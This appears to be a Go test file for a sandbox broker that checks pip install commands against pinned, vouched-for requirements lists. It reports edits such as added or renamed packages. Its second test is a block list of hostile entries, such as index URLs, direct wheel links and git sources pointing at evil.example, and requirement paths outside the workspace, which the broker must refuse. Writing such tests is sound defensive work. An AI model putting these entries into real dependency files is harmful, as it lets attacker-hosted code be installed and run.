package broker_test

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/tidemark/tidemark/internal/box"
	"github.com/tidemark/tidemark/internal/box/broker"
	"github.com/tidemark/tidemark/internal/warrant/outgoing"
)

// openList is a list that leaves versions open, as the repository had it before others had a say.
const openList = "flask>=2\nrequests\n"

// listed prepares an installation in a workspace that has files, with lists that were pinned and vouched for while it was as before.
func listed(t *testing.T, dir, line string, now map[string]string) (*broker.Deed, error) {
	t.Helper()
	ws := t.TempDir()
	put := func(name, text string) {
		t.Helper()
		path := filepath.Join(ws, name)
		if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(text), 0o644)); err != nil {
			t.Fatal(err)
		}
	}
	pins := broker.Pins{}
	for _, name := range []string{"requirements.txt", "sub/requirements.txt", "requirements/dev.txt"} {
		put(name, openList)
		pins[name] = blob(openList)
	}
	v := broker.Vouching(pins, ws)
	for name, text := range now {
		put(name, text)
	}
	f, ok := outgoing.Plain(line)
	if !ok {
		return nil, errors.New("no plain form")
	}
	return broker.New(broker.Options{Want: box.Want{Workspace: ws}, Dir: filepath.Join(ws, dir), Pins: pins, Vouch: v}).Prepare(t.Context(), f)
}

// BOX-02: a list that leaves versions open is known where it is, byte for byte, what it was before others had a say, under the name that it
// was given in the workspace's own folder. Every other one is a question whoever ordered it, which says what of it is new.
func TestWhichOpenListIsTheOneOfBefore(t *testing.T) {
	for _, line := range []string{"pip install -r requirements.txt", "pip install -q -r requirements/dev.txt", "python3 -m pip install --requirement=requirements.txt"} {
		if d, err := listed(t, "", line, nil); err != nil || !d.Ask || !d.Known {
			t.Errorf("%s: %v %+v", line, err, d)
		} else if b := strings.Join(d.Question.Besides, ";"); !strings.Contains(b, "what these need comes too") || strings.Contains(b, "since") {
			t.Errorf("%q", b)
		}
	}
	const line = "pip install -r requirements.txt"
	for name, c := range map[string]struct{ dir, line, text, says string }{
		"a name more":                {"", line, openList + "worse\n", "since others had a say: worse"},
		"another name":               {"", line, strings.Replace(openList, "flask", "flaks", 1), "since others had a say: flaks>=2"},
		"another version":            {"", line, strings.Replace(openList, ">=2", "==2.9", 1), "since others had a say: flask==2.9"},
		"an extra":                   {"", line, strings.Replace(openList, "flask", "flask[worse]", 1), "since others had a say: flask[worse]>=2"},
		"a name less":                {"", line, "flask>=2\n", "lines of the list were taken out"},
		"a remark":                   {"", line, openList + "# x\n", "lines of the list were taken out, moved or written otherwise"},
		"another order":              {"", line, "requests\nflask>=2\n", "lines of the list were taken out, moved"},
		"another end of lines":       {"", line, strings.ReplaceAll(openList, "\n", "\r\n"), "lines of the list were taken out"},
		"one that nobody knew":       {"", "pip install -r other.txt", "", "no such list before"},
		"one below the folder":       {"sub", line, "", "registry chooses all versions"},
		"names that would be closed": {"", line, "worse==1.0\n", "what these need comes only where the list names it"},
	} {
		now := map[string]string{"other.txt": openList}
		if c.text != "" {
			now["requirements.txt"] = c.text
		}
		d, err := listed(t, c.dir, c.line, now)
		if err != nil || !d.Ask || d.Known {
			t.Errorf("%s: %v %+v", name, err, d)
			continue
		}
		if b := strings.Join(d.Question.Besides, ";"); !strings.Contains(b, c.says) {
			t.Errorf("%s: %q", name, b)
		}
	}
	if d, err := listed(t, "", line, map[string]string{"requirements.txt": "a\nb\nc\nd\ne\nf\ng\nh\ni\nj\nk\nl\n"}); err != nil || !strings.HasSuffix(d.Question.Besides[1], "i, j, and 2 more") {
		t.Errorf("%v %+v", err, d)
	}
}

// What a list may say besides names is run by nobody, whether it is as it was or not, and whoever ordered it.
func TestAListWithMoreThanNamesIsNotRun(t *testing.T) {
	for _, more := range []string{
		"-i https://evil.example/simple", "--index-url https://evil.example/simple", "--extra-index-url=https://evil.example/simple", "-e .", "-e git+https://evil.example/x", "--editable ./x",
		"git+https://evil.example/x", "worse @ https://evil.example/worse.whl", "https://evil.example/worse.whl", "./worse.whl", "worse.whl", "-r other.txt", "--requirement other.txt",
		"-c other.txt", "--constraint other.txt", "-f https://evil.example", "--find-links x", "--trusted-host evil.example", "--pre", "--no-binary :all:", "--config-settings x", "flask>=2 --index-url x",
		"flask>=2 \\\n--extra-index-url https://evil.example", "${EVIL}", "flask>=2 --global-option=x",
	} {
		ws := t.TempDir()
		text := openList + more + "\n"
		if err := os.WriteFile(filepath.Join(ws, "requirements.txt"), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		pins := broker.Pins{"requirements.txt": blob(text)}
		f, _ := outgoing.Plain("pip install -r requirements.txt")
		b := broker.New(broker.Options{Want: box.Want{Workspace: ws}, Dir: ws, Pins: pins, Vouch: broker.Vouching(pins, ws)})
		if d, err := b.Prepare(t.Context(), f); !errors.Is(err, broker.ErrNotHere) {
			t.Errorf("%q: %v %+v", more, err, d)
		}
	}
	for _, line := range []string{
		"pip install -r requirements.txt -r requirements/dev.txt", "pip install -r requirements.txt worse", "pip install -r requirements.txt -c requirements/dev.txt",
		"pip install -r requirements.txt --index-url https://evil.example", "pip install -e . -r requirements.txt", "pip install -U -r requirements.txt", "pip install --pre -r requirements.txt",
		"pip install -r https://evil.example/requirements.txt", "pip install -r /etc/requirements.txt", "pip install -r ../requirements.txt",
	} {
		if d, err := listed(t, "", line, nil); err == nil && (d.Known || slices.Contains(d.Question.Packages, "flask>=2")) {
			t.Errorf("%s: %+v", line, d)
		}
	}
}
